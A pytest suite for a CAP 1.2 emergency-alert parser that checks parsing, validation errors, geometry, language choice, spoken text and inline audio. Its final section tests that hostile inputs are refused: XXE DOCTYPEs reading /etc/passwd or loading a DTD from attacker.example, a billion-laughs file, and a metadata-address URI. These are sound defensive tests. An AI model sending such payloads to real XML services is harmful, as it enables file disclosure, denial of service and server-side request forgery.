"""CAP 1.2 parsing: what a sender's document turns into, and every way it is refused."""

from __future__ import annotations

import hashlib
import subprocess
import wave
from datetime import UTC, datetime, timedelta, timezone
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from app.broadcasts.cap import (
    CapError,
    CapReference,
    area_contains,
    fitted_text,
    parse_cap,
    parse_cap_datetime,
    spoken_text,
)

from .cap_factory import build_cap_xml

FIXTURES = Path(__file__).parent / "cap"
CST = timezone(timedelta(hours=8))
SENDER = "meteo@hangzhou.example.cn"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def refused(document: bytes | str, **limits: int) -> str:
    """The reason ``parse_cap`` gives for refusing the document."""
    with pytest.raises(CapError) as caught:
        parse_cap(document, **limits)
    return str(caught.value)


def with_element(document: bytes, after: str, element: str) -> bytes:
    """Insert raw XML right after the first closing tag ``after``."""
    closing = f"</{after}>".encode()
    assert closing in document
    return document.replace(closing, closing + element.encode(), 1)


# --- a chain: Alert, Update, Cancel --------------------------------------------------


def test_rainstorm_alert_is_an_actual_level_1_broadcast() -> None:
    alert = parse_cap(fixture("alert_rainstorm.xml"))

    assert (alert.identifier, alert.sender) == ("HZ-MET-20240701-0007", SENDER)
    assert alert.sent == datetime(2024, 7, 1, 6, 30, tzinfo=UTC)
    assert (alert.status, alert.msg_type, alert.scope) == ("Actual", "Alert", "Public")
    assert alert.broadcast is True
    assert alert.mode == "actual"
    assert alert.level == 1
    assert alert.references == []
    assert alert.title == "暴雨红色预警"
    assert alert.expires == datetime(2024, 7, 1, 20, 30, tzinfo=CST)
    assert alert.onset == datetime(2024, 7, 1, 15, 0, tzinfo=CST)


def test_rainstorm_alert_targets_codes_polygon_and_circle_of_every_area() -> None:
    alert = parse_cap(fixture("alert_rainstorm.xml"))

    # GB2260 geocodes are not village codes; the repeated village code counts once.
    assert alert.area_codes == ["330106109201", "330106109202"]
    assert alert.area_descs == ["双浦镇东江嘴村", "双浦镇灵山村周边五公里"]
    assert alert.polygons == [
        [(30.15, 120.05), (30.15, 120.1), (30.2, 120.1), (30.2, 120.05), (30.15, 120.05)]
    ]
    assert alert.circles == [(30.12, 120.02, 5.0)]
    assert alert.has_geometry


def test_rainstorm_alert_text_is_headline_description_instruction() -> None:
    alert = parse_cap(fixture("alert_rainstorm.xml"))

    assert alert.text == (
        "暴雨红色预警。"
        "双浦镇已出现特大暴雨，过去三小时降水量达一百二十毫米。山洪和地质灾害风险极高。"
        "请沿溪、低洼地带村民立即转移到村文化礼堂，不要涉水过河。"
    )


def test_update_references_the_alert_it_replaces() -> None:
    alert = parse_cap(fixture("alert_rainstorm.xml"))
    update = parse_cap(fixture("update_rainstorm.xml"))

    assert update.msg_type == "Update"
    assert update.broadcast is True
    assert update.references == [alert.reference]
    assert update.level == 2
    assert update.title == "暴雨红色预警降级为橙色预警"
    assert update.area_codes == ["330106109201"]


def test_cancel_without_info_names_both_earlier_messages() -> None:
    alert = parse_cap(fixture("alert_rainstorm.xml"))
    update = parse_cap(fixture("update_rainstorm.xml"))
    cancel = parse_cap(fixture("cancel_rainstorm.xml"))

    assert cancel.msg_type == "Cancel"
    assert cancel.broadcast is True
    assert cancel.references == [alert.reference, update.reference]
    assert cancel.references[1] == (SENDER, "HZ-MET-20240701-0008", update.sent)
    assert cancel.note == "降雨已结束，解除预警"
    assert (cancel.level, cancel.text, cancel.area_codes) == (None, "", [])


def test_references_compare_as_instants_whatever_the_offset() -> None:
    sent_utc = "2024-07-01T06:30:00-00:00"
    document = build_cap_xml(msg_type="Cancel", references=[(SENDER, "HZ-1", sent_utc)])

    (reference,) = parse_cap(document).references

    assert reference == CapReference(SENDER, "HZ-1", datetime(2024, 7, 1, 14, 30, tzinfo=CST))


@pytest.mark.parametrize("msg_type", ["Update", "Cancel", "Ack", "Error"])
def test_messages_about_earlier_alerts_need_references(msg_type: str) -> None:
    assert "<references>" in refused(build_cap_xml(msg_type=msg_type))


@pytest.mark.parametrize(
    "references",
    [
        f"{SENDER},HZ-1",
        f"{SENDER},HZ-1,2024-07-01T14:30:00+08:00,extra",
        ",HZ-1,2024-07-01T14:30:00+08:00",
        f"{SENDER},HZ-1,yesterday",
    ],
)
def test_malformed_references_are_refused(references: str) -> None:
    document = build_cap_xml(msg_type="Update")
    document = with_element(document, "scope", f"<references>{references}</references>")

    assert "references" in refused(document)


# --- which info, which mode, which level ---------------------------------------------


def test_the_chinese_info_is_chosen_over_an_earlier_english_one() -> None:
    alert = parse_cap(fixture("bilingual.xml"))

    assert alert.language == "zh-CN"
    assert alert.event == "地震"
    assert alert.text == "富阳区发生4.6级地震。全区有明显震感。请注意防范余震。"
    assert alert.area_codes == ["330111002001"]
    assert alert.level == 3


def test_without_chinese_the_first_info_is_chosen_and_english_is_punctuated() -> None:
    english = {"language": "en-US", "headline": "Flood warning", "description": "Leave now!"}
    french = {"language": "fr", "headline": "Alerte crue", "area_codes": ("330100",)}
    alert = parse_cap(build_cap_xml(infos=[english, french]))

    assert alert.language == "en-US"
    assert alert.text == "Flood warning. Leave now! 请村民立即转移到安全地带。"


def test_every_info_is_checked_even_the_one_not_chosen() -> None:
    good = {"language": "zh-CN"}
    bad = {"language": "en-US", "severity": "Catastrophic"}

    assert "Catastrophic" in refused(build_cap_xml(infos=[good, bad]))


@pytest.mark.parametrize(
    ("status", "mode"), [("Actual", "actual"), ("Exercise", "exercise"), ("Test", "test")]
)
def test_actual_exercise_and_test_are_broadcast_in_their_mode(status: str, mode: str) -> None:
    alert = parse_cap(build_cap_xml(status=status))

    assert (alert.broadcast, alert.mode) == (True, mode)


@pytest.mark.parametrize("status", ["System", "Draft"])
def test_system_and_draft_are_accepted_but_not_broadcast(status: str) -> None:
    alert = parse_cap(build_cap_xml(status=status, with_info=False))

    assert alert.status == status
    assert (alert.broadcast, alert.mode) == (False, None)


def test_a_system_link_check_to_private_addresses_is_accepted() -> None:
    alert = parse_cap(fixture("system_heartbeat.xml"))

    assert (alert.status, alert.scope, alert.broadcast) == ("System", "Private", False)


@pytest.mark.parametrize("msg_type", ["Ack", "Error"])
def test_acks_and_errors_are_accepted_but_not_broadcast(msg_type: str) -> None:
    document = build_cap_xml(
        msg_type=msg_type, references=[(SENDER, "HZ-1", "2024-07-01T14:30:00+08:00")]
    )

    alert = parse_cap(document)

    assert alert.msg_type == msg_type
    assert alert.broadcast is False


@pytest.mark.parametrize(
    ("severity", "level"),
    [("Extreme", 1), ("Severe", 2), ("Moderate", 3), ("Minor", 4), ("Unknown", 4)],
)
def test_severity_maps_to_level(severity: str, level: int) -> None:
    assert parse_cap(build_cap_xml(severity=severity)).level == level


def test_title_falls_back_to_the_event() -> None:
    alert = parse_cap(build_cap_xml(headline=None, event="山洪"))

    assert alert.title == "山洪"
    assert alert.text == "预计未来3小时内将出现50毫米以上降水。请村民立即转移到安全地带。"


# --- enumerations ---------------------------------------------------------------------

ENUMERATIONS = {
    "status": ("status", ["Actual", "Exercise", "System", "Test", "Draft"]),
    "msg_type": ("msgType", ["Alert", "Update", "Cancel", "Ack", "Error"]),
    "scope": ("scope", ["Public", "Restricted", "Private"]),
    "categories": (
        "category",
        [
            "Geo",
            "Met",
            "Safety",
            "Security",
            "Rescue",
            "Fire",
            "Health",
            "Env",
            "Transport",
            "Infra",
            "CBRNE",
            "Other",
        ],
    ),  # fmt: skip
    "response_types": (
        "responseType",
        [
            "Shelter",
            "Evacuate",
            "Prepare",
            "Execute",
            "Avoid",
            "Monitor",
            "Assess",
            "AllClear",
            "None",
        ],
    ),  # fmt: skip
    "urgency": ("urgency", ["Immediate", "Expected", "Future", "Past", "Unknown"]),
    "severity": ("severity", ["Extreme", "Severe", "Moderate", "Minor", "Unknown"]),
    "certainty": ("certainty", ["Observed", "Likely", "Possible", "Unlikely", "Unknown"]),
}
LIST_FIELDS = ("categories", "response_types")
VALID_CONTEXT: dict[str, dict[str, Any]] = {
    "msg_type": {"references": [(SENDER, "HZ-1", "2024-07-01T14:30:00+08:00")]},
    "scope": {"restriction": "仅限应急办", "addresses": "cunxiang"},
}


def _document_with(field: str, value: str) -> bytes:
    arguments: dict[str, Any] = {field: (value,) if field in LIST_FIELDS else value}
    return build_cap_xml(**VALID_CONTEXT.get(field, {}), **arguments)


@pytest.mark.parametrize(
    ("field", "value"),
    [(field, value) for field, (_, values) in ENUMERATIONS.items() for value in values],
)
def test_every_enumerated_value_is_accepted(field: str, value: str) -> None:
    alert = parse_cap(_document_with(field, value))

    assert alert.identifier == "cx-2024-0001"


@pytest.mark.parametrize(("field", "element"), [(f, e) for f, (e, _) in ENUMERATIONS.items()])
@pytest.mark.parametrize("wrong", ["Bogus", "actual", ""])
def test_a_value_outside_the_enumeration_is_refused(field: str, element: str, wrong: str) -> None:
    reason = refused(_document_with(field, wrong))

    assert f"<{element}>" in reason


def test_the_refusal_lists_the_allowed_values() -> None:
    reason = refused(build_cap_xml(urgency="Now"))

    assert reason == (
        "<urgency> in alert/info[1] is 'Now'; "
        "expected one of Immediate, Expected, Future, Past, Unknown"
    )


def test_restricted_scope_needs_a_restriction() -> None:
    assert "<restriction>" in refused(build_cap_xml(scope="Restricted"))
    assert parse_cap(build_cap_xml(scope="Restricted", restriction="仅限镇应急办")).scope


def test_private_scope_needs_addresses() -> None:
    assert "<addresses>" in refused(build_cap_xml(scope="Private"))
    assert parse_cap(build_cap_xml(scope="Private", addresses='cunxiang "town office"')).scope


# --- required elements and structure --------------------------------------------------


@pytest.mark.parametrize(
    ("field", "element"),
    [
        ("identifier", "identifier"),
        ("sender", "sender"),
        ("sent", "sent"),
        ("status", "status"),
        ("msg_type", "msgType"),
        ("scope", "scope"),
    ],
)
def test_a_missing_alert_element_is_named(field: str, element: str) -> None:
    missing: dict[str, Any] = {field: None}
    reason = refused(build_cap_xml(**missing))

    assert reason == f"alert is missing the required element <{element}>"


@pytest.mark.parametrize(
    ("field", "element"),
    [
        ("event", "event"),
        ("urgency", "urgency"),
        ("severity", "severity"),
        ("certainty", "certainty"),
        ("categories", "category"),
        ("area_desc", "areaDesc"),
    ],
)
def test_a_missing_info_element_is_named(field: str, element: str) -> None:
    missing: dict[str, Any] = {field: None}
    reason = refused(build_cap_xml(**missing))

    assert f"missing the required element <{element}>" in reason
    assert "alert/info[1]" in reason


@pytest.mark.parametrize(
    ("resource", "element"),
    [
        ({"mimeType": "audio/mpeg", "uri": "https://example.cn/a.mp3"}, "resourceDesc"),
        ({"resourceDesc": "录音", "uri": "https://example.cn/a.mp3"}, "mimeType"),
    ],
)
def test_a_resource_needs_a_description_and_a_mime_type(
    resource: dict[str, str], element: str
) -> None:
    reason = refused(build_cap_xml(resources=[resource]))

    assert reason == f"alert/info[1]/resource[1] is missing the required element <{element}>"


def test_a_geocode_needs_a_value() -> None:
    reason = refused(build_cap_xml(geocodes=[("AreaCode", None)]))

    assert "<value>" in reason


def test_an_empty_required_element_is_refused() -> None:
    assert refused(build_cap_xml(identifier="  ")) == "<identifier> in alert is empty"


def test_a_repeated_single_element_is_refused() -> None:
    document = with_element(build_cap_xml(), "sent", "<sent>2024-07-01T09:00:00+08:00</sent>")

    assert refused(document) == "alert has 2 <sent> elements; at most 1 allowed"


def test_an_element_foreign_to_cap_is_refused() -> None:
    document = with_element(build_cap_xml(), "scope", "<priority>high</priority>")

    assert refused(document) == "<priority> is not a CAP 1.2 element of alert"


def test_an_element_outside_any_namespace_is_refused() -> None:
    document = with_element(build_cap_xml(), "scope", '<note xmlns="">hello</note>')

    assert "outside the CAP 1.2 namespace" in refused(document)


def test_elements_of_other_vocabularies_are_ignored() -> None:
    alert = parse_cap(fixture("alert_rainstorm.xml"))  # carries an xmldsig <Signature>

    assert alert.identifier == "HZ-MET-20240701-0007"


def test_values_must_be_text_not_elements() -> None:
    document = build_cap_xml().replace(b"<event>", b"<event><b>x</b>", 1)

    assert "must contain text" in refused(document)


@pytest.mark.parametrize("identifier", ["HZ 0007", "HZ,0007", "HZ&amp;0007", "HZ&lt;0007"])
def test_identifiers_refuse_spaces_commas_and_restricted_characters(identifier: str) -> None:
    document = build_cap_xml().replace(b"cx-2024-0001", identifier.encode())

    assert "must not contain spaces, commas" in refused(document)


def test_a_ceiling_needs_an_altitude() -> None:
    document = with_element(build_cap_xml(), "areaDesc", "<ceiling>1500</ceiling>")

    assert "needs an <altitude>" in refused(document)


# --- namespace and document shape ----------------------------------------------------


def test_a_cap_1_1_document_is_refused() -> None:
    reason = refused(fixture("cap11_alert.xml"))

    assert reason.startswith("not a CAP 1.2 document")
    assert "urn:oasis:names:tc:emergency:cap:1.1" in reason


def test_a_document_without_namespace_is_refused() -> None:
    reason = refused(build_cap_xml().replace(b' xmlns="urn:oasis:names:tc:emergency:cap:1.2"', b""))

    assert reason.startswith("not a CAP 1.2 document: <alert> has no namespace")


def test_a_prefixed_namespace_is_as_good_as_a_default_one() -> None:
    document = """<cap:alert xmlns:cap="urn:oasis:names:tc:emergency:cap:1.2">
      <cap:identifier>P-1</cap:identifier><cap:sender>s@example.cn</cap:sender>
      <cap:sent>2024-07-01T08:00:00+08:00</cap:sent><cap:status>Draft</cap:status>
      <cap:msgType>Alert</cap:msgType><cap:scope>Public</cap:scope>
    </cap:alert>"""

    assert parse_cap(document).identifier == "P-1"


def test_the_namespace_of_a_child_must_be_cap_too() -> None:
    document = build_cap_xml().replace(b"<event>", b'<event xmlns="urn:example:other">', 1)

    assert refused(document) == "alert/info[1] is missing the required element <event>"


def test_a_root_other_than_alert_is_refused() -> None:
    document = b'<info xmlns="urn:oasis:names:tc:emergency:cap:1.2"><event>x</event></info>'

    assert "starts with <alert>" in refused(document)


@pytest.mark.parametrize(
    "document",
    [b"", b"   ", b"<alert", b'{"title": "not xml"}', b"<a></b>", b"<alert>&undefined;</alert>"],
)
def test_malformed_xml_is_refused_with_a_reason(document: bytes) -> None:
    reason = refused(document)

    assert reason.startswith(("malformed XML", "document is empty"))


def test_text_input_is_accepted_like_bytes() -> None:
    document = fixture("alert_rainstorm.xml").decode("utf-8")

    assert parse_cap(document).title == "暴雨红色预警"


def test_a_gb2312_document_is_read() -> None:
    alert = parse_cap(fixture("fire_gb2312.xml"))

    assert alert.title == "森林火险黄色预警"
    assert alert.text == "森林火险黄色预警。进山请勿携带火种。"
    assert (alert.mode, alert.level) == ("test", 3)


def test_an_unknown_character_encoding_is_refused() -> None:
    document = build_cap_xml().replace(b"encoding='utf-8'", b"encoding='klingon-8'")

    assert refused(document) == "unknown character encoding 'klingon-8'"


# --- dates ---------------------------------------------------------------------------


def test_times_keep_their_offset() -> None:
    alert = parse_cap(
        build_cap_xml(sent="2024-07-01T08:00:00-07:00", expires="2024-07-01T09:00:00-00:00")
    )

    assert alert.sent.utcoffset() == timedelta(hours=-7)
    assert alert.expires == datetime(2024, 7, 1, 9, 0, tzinfo=UTC)


def test_z_is_accepted_as_utc_though_cap_asks_for_an_offset() -> None:
    assert parse_cap_datetime("2024-07-01T06:30:00Z") == datetime(2024, 7, 1, 6, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    "value",
    [
        "2024-07-01T08:00:00",  # no offset: ambiguous
        "2024-07-01T08:00:00.5+08:00",  # fractional seconds
        "2024-07-01 08:00:00+08:00",
        "2024-07-01T08:00+08:00",
        "2024-02-30T08:00:00+08:00",
        "2024-07-01T08:00:00+0800",
        "tomorrow",
    ],
)
@pytest.mark.parametrize("field", ["sent", "expires", "effective", "onset"])
def test_malformed_times_are_refused(field: str, value: str) -> None:
    malformed: dict[str, Any] = {field: value}
    reason = refused(build_cap_xml(**malformed))

    assert reason.startswith(f"<{field}> {value!r}")


# --- geometry in the document --------------------------------------------------------

SQUARE = [(30.0, 120.0), (30.0, 120.1), (30.1, 120.1), (30.1, 120.0), (30.0, 120.0)]


def test_polygons_and_circles_decide_which_speakers_hear_it() -> None:
    alert = parse_cap(build_cap_xml(area_codes=(), polygons=[SQUARE], circles=[(31.0, 121.0, 2)]))

    assert area_contains(alert, 30.05, 120.05)  # inside the square
    assert area_contains(alert, 31.01, 121.0)  # 1.1 km from the circle's centre
    assert not area_contains(alert, 30.2, 120.05)  # north of the square
    assert not area_contains(alert, 31.02, 121.0)  # 2.2 km from the centre


def test_an_alert_targeting_only_area_codes_contains_no_point() -> None:
    alert = parse_cap(build_cap_xml())

    assert not area_contains(alert, 30.05, 120.05)
    assert not alert.has_geometry


@pytest.mark.parametrize(
    ("polygon", "reason"),
    [
        ("30,120 30,121 30,120", "has 3 points; at least 4 are required"),
        ("30,120 30,121 31,121 31,120", "is not closed"),
        ("30 120 30 121 31 121 30 120", "is not a 'latitude,longitude' pair"),
        ("30,120 30,121 91,121 30,120", "outside latitude ±90, longitude ±180"),
        ("30,120 30,181 31,121 30,120", "outside latitude ±90, longitude ±180"),
        ("30,120 nan,121 31,121 30,120", "is not a 'latitude,longitude' pair"),
        ("", "has 0 points"),
    ],
)
def test_malformed_polygons_are_refused(polygon: str, reason: str) -> None:
    document = with_element(build_cap_xml(), "areaDesc", f"<polygon>{polygon}</polygon>")

    assert reason in refused(document)


@pytest.mark.parametrize(
    "circle", ["30,120", "30,120 -1", "30,120 5 km", "30 120 5", "30,120,5", "95,120 5"]
)
def test_malformed_circles_are_refused(circle: str) -> None:
    document = with_element(build_cap_xml(), "areaDesc", f"<circle>{circle}</circle>")

    assert "<circle>" in refused(document)


def test_a_circle_of_radius_zero_is_a_point() -> None:
    alert = parse_cap(build_cap_xml(circles=[(30.0, 120.0, 0)]))

    assert alert.circles == [(30.0, 120.0, 0.0)]


def test_area_code_geocodes_are_kept_apart_from_other_schemes() -> None:
    document = build_cap_xml(
        area_codes=(), geocodes=[("GB2260", "330106"), ("areacode", "330106001002")]
    )

    alert = parse_cap(document)

    assert alert.area_codes == ["330106001002"]  # ours: unknown ones are refused (422)
    assert alert.geocodes == [("GB2260", "330106")]  # others: matched where they fit


def test_an_alert_naming_its_area_only_in_words_is_valid_cap_without_a_target() -> None:
    alert = parse_cap(build_cap_xml(area_codes=(), area_desc="全县"))

    assert alert.broadcast and alert.area_descs == ["全县"]
    assert not alert.has_target  # the flow answers 422: nothing to match villages to


def test_geocodes_of_any_scheme_are_a_target() -> None:
    alert = parse_cap(build_cap_xml(area_codes=(), geocodes=[("SAME", "006109")]))

    assert alert.has_target and alert.geocodes == [("SAME", "006109")]


def test_an_actual_alert_without_info_is_valid_cap_with_nothing_to_play() -> None:
    alert = parse_cap(build_cap_xml(with_info=False))

    assert alert.broadcast and alert.level is None and alert.text == ""


def test_without_headline_description_or_instruction_the_event_is_spoken() -> None:
    alert = parse_cap(build_cap_xml(headline=None, description=None, instruction=None))

    assert alert.text == "暴雨。"


def test_an_empty_value_in_a_parameter_event_code_or_geocode_is_valid_cap() -> None:
    document = build_cap_xml(geocodes=[("SAME", "")])
    document = with_element(
        document, "instruction", "<parameter><valueName>AllocatedResources</valueName><value/>"
        "</parameter><eventCode><valueName>SAME</valueName><value></value></eventCode>",
    )  # fmt: skip

    alert = parse_cap(document)

    assert alert.area_codes == ["330106001001"] and alert.geocodes == []


def test_stray_text_between_elements_is_ignored_with_a_warning() -> None:
    document = build_cap_xml(geocodes=[("DICO", "1201")]).replace(b"1201</value>", b"1201</value>+")

    alert = parse_cap(document)

    assert alert.geocodes == [("DICO", "1201")]
    assert alert.warnings == [
        "text '+' between the elements of alert/info[1]/area[1]/geocode[2] was ignored"
    ]


def test_cap_1_0_is_an_unsupported_version() -> None:
    document = build_cap_xml(namespace="http://www.incident.com/cap/1.0")

    assert "this is CAP 1.0" in refused(document) and "unsupported version" in refused(document)


# --- several infos ---------------------------------------------------------------------

EN_FIRE = {"language": "en-AU", "headline": "Structure fire", "description": "Out of control",
           "instruction": "Stay away", "area_codes": ("v11",)}  # fmt: skip


def test_blocks_of_one_language_that_say_the_same_add_their_areas() -> None:
    # NSW RFS sends the same fire twice, once per geocode scheme: not a translation.
    alert = parse_cap(build_cap_xml(infos=[EN_FIRE, {**EN_FIRE, "area_codes": ("v12",)}]))

    assert alert.area_codes == ["v11", "v12"]
    assert alert.text == "Structure fire. Out of control. Stay away."
    assert alert.warnings == []


def test_a_block_of_the_same_language_saying_something_else_is_not_played_and_says_so() -> None:
    ended = {**EN_FIRE, "headline": "Fire contained", "severity": "Minor", "area_codes": ("v21",)}

    alert = parse_cap(build_cap_xml(infos=[EN_FIRE, ended]))

    assert alert.area_codes == ["v11"] and alert.level == 2
    [warning] = alert.warnings
    assert warning.startswith("alert/info[2] (en-AU, 'Fire contained', severity Minor, 1 area(s))")
    assert "not played" in warning


def test_translations_are_neither_played_nor_warned_about() -> None:
    french = {**EN_FIRE, "language": "fr-CA", "headline": "Incendie", "area_codes": ("v21",)}
    chinese = {**EN_FIRE, "language": "zh-CN", "headline": "火灾", "description": "火势失控",
               "instruction": "请远离", "area_codes": ("v12",)}  # fmt: skip

    assert parse_cap(build_cap_xml(infos=[EN_FIRE, french])).area_codes == ["v11"]
    alert = parse_cap(build_cap_xml(infos=[EN_FIRE, french, chinese]))
    assert (alert.language, alert.area_codes, alert.text) == (
        "zh-CN",
        ["v12"],
        "火灾。火势失控。请远离。",
    )
    assert alert.warnings == []


# --- a long text ------------------------------------------------------------------------


def test_a_text_over_the_limit_keeps_headline_and_instruction_and_cuts_the_description() -> None:
    description = "\n".join(f"第{n}段说明文字。" for n in range(1, 301))  # ~2,700 characters
    alert = parse_cap(build_cap_xml(headline="洪水预警", description=description,
                                    instruction="请立即转移。"))  # fmt: skip

    text, warning = fitted_text(alert, 2000)

    assert len(text) <= 2000 < len(alert.text)
    assert text.startswith("洪水预警。第1段说明文字。第2段说明文字。")
    assert text.endswith("说明文字。请立即转移。")
    assert warning is not None and f"of {len(alert.text):,} characters" in warning
    assert fitted_text(parse_cap(build_cap_xml()), 2000) == (parse_cap(build_cap_xml()).text, None)


def test_a_headline_and_instruction_over_the_limit_are_cut_at_a_sentence_end() -> None:
    instruction = "请立即转移。" * 400
    alert = parse_cap(build_cap_xml(headline="洪水预警", instruction=instruction))

    text, warning = fitted_text(alert, 2000)

    assert len(text) <= 2000 and text.endswith("请立即转移。") and warning


# --- inline audio --------------------------------------------------------------------


@pytest.fixture(scope="module")
def recording(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Half a second of a real MP3 tone made by ffmpeg."""
    path = tmp_path_factory.mktemp("cap") / "tone.mp3"
    subprocess.run(
        ["ffmpeg", "-hide_banner", "-loglevel", "error", "-f", "lavfi",
         "-i", "sine=frequency=660:duration=0.5", "-ac", "1", "-b:a", "32k", str(path)],
        check=True,
    )  # fmt: skip
    return path.read_bytes()


def test_inline_audio_is_decoded_byte_for_byte(recording: bytes) -> None:
    document = build_cap_xml(headline=None, description=None, instruction=None, audio=recording)

    alert = parse_cap(document)

    assert alert.audio is not None
    assert alert.audio.mime_type == "audio/mpeg"
    assert alert.audio.data == recording
    assert alert.text == ""
    assert alert.title == "暴雨"


def test_the_drill_recording_is_a_playable_wav_and_other_resources_are_skipped() -> None:
    alert = parse_cap(fixture("exercise_audio.xml"))

    assert (alert.mode, alert.level) == ("exercise", 4)
    assert alert.audio is not None
    assert alert.audio.mime_type == "audio/wav"  # parameters dropped
    assert alert.audio.description == "防汛演练广播录音"
    with wave.open(BytesIO(alert.audio.data)) as recording:
        assert (recording.getframerate(), recording.getnframes()) == (8000, 800)


def test_a_matching_digest_is_accepted(recording: bytes) -> None:
    alert = parse_cap(build_cap_xml(audio=recording, audio_digest=True))

    assert alert.audio is not None
    assert hashlib.sha1(alert.audio.data).hexdigest() == hashlib.sha1(recording).hexdigest()


def test_a_wrong_digest_or_size_is_a_warning_not_a_refusal(recording: bytes) -> None:
    document = build_cap_xml(audio=recording, audio_digest=True)
    document = document.replace(hashlib.sha1(recording).hexdigest().encode(), b"0" * 40)
    document = document.replace(f"<size>{len(recording)}<".encode(), b"<size>98865<")

    alert = parse_cap(document)

    assert alert.audio is not None and alert.audio.data == recording
    [digest, size] = alert.warnings
    assert "<digest> of the inline audio (0000000000" in digest
    assert hashlib.sha1(recording).hexdigest() in digest
    assert size == f"the <size> of the inline audio says 98,865 bytes; it has {len(recording):,}"


def test_invalid_base64_audio_is_refused() -> None:
    resource = {"resourceDesc": "录音", "mimeType": "audio/mpeg", "derefUri": "not*base64!"}

    assert refused(build_cap_xml(resources=[resource])) == "<derefUri> is not valid base64"


def test_audio_over_the_limit_is_refused(recording: bytes) -> None:
    document = build_cap_xml(audio=recording)

    reason = refused(document, max_audio_bytes=len(recording) - 1)

    assert reason == f"inline audio is larger than {len(recording) - 1} bytes"
    assert parse_cap(document, max_audio_bytes=len(recording)).audio is not None


def test_audio_only_by_uri_is_not_fetched() -> None:
    resource = {"resourceDesc": "录音", "mimeType": "audio/mpeg", "uri": "http://169.254.169.254/x"}
    alert = parse_cap(build_cap_xml(resources=[resource]))

    assert alert.audio is None


# --- spoken text ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parts", "text"),
    [
        (("暴雨预警", "降水明显", "注意安全"), "暴雨预警。降水明显。注意安全。"),
        (("紧急通知！", "水库可能溃坝？", "立即撤离"), "紧急通知！水库可能溃坝？立即撤离。"),
        (("紧急通知：", "全体村民到村委会集合"), "紧急通知：全体村民到村委会集合。"),
        (("山洪预警，", None, "  "), "山洪预警。"),
        (("暴雨预警", "暴雨预警", "请转移"), "暴雨预警。请转移。"),
        (("第一条\n\n  第二条  ", None, None), "第一条。第二条。"),
        (
            ("Flood warning", "River 3 m above normal", "请转移"),
            "Flood warning. River 3 m above normal. 请转移。",
        ),
        (("水位超过 5 m", "Move to high ground"), "水位超过 5 m。Move to high ground."),
        ((None, None, None), ""),
    ],
)
def test_spoken_text_closes_each_sentence(parts: tuple[str | None, ...], text: str) -> None:
    assert spoken_text(*parts) == text


# --- hostile documents ---------------------------------------------------------------


@pytest.mark.timeout(1)
def test_an_external_entity_is_refused_and_nothing_is_read() -> None:
    reason = refused(fixture("xxe_passwd.xml"))

    assert reason == "a DOCTYPE (DTD) is not allowed in a CAP document"
    assert "root:" not in reason


@pytest.mark.timeout(1)
def test_billion_laughs_is_refused() -> None:
    assert "DTD" in refused(fixture("billion_laughs.xml"))


@pytest.mark.timeout(1)
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE alert SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
        "<!DOCTYPE alert []>",
    ],
)
def test_any_doctype_is_refused(doctype: str) -> None:
    document = build_cap_xml().replace(b"?>", f"?>{doctype}".encode(), 1)

    assert "DTD" in refused(document)


@pytest.mark.timeout(1)
@pytest.mark.parametrize("as_text", [False, True])
def test_a_ten_megabyte_document_is_refused_before_parsing(as_text: bool) -> None:
    head, tail = build_cap_xml().split(b"</scope>", 1)
    document = b"".join([head, b"</scope><note>", b"x" * (10 * 1024 * 1024), b"</note>", tail])

    reason = refused(document.decode() if as_text else document)

    assert reason == f"document is larger than {1024 * 1024} bytes"


def test_the_size_limit_is_a_parameter() -> None:
    document = build_cap_xml()

    assert parse_cap(document, max_bytes=len(document)).identifier
    assert "larger than" in refused(document, max_bytes=len(document) - 1)


def test_multibyte_text_counts_in_bytes_against_the_limit() -> None:
    document = build_cap_xml().decode("utf-8")  # Chinese: 3 bytes a character

    assert "larger than" in refused(document, max_bytes=len(document))
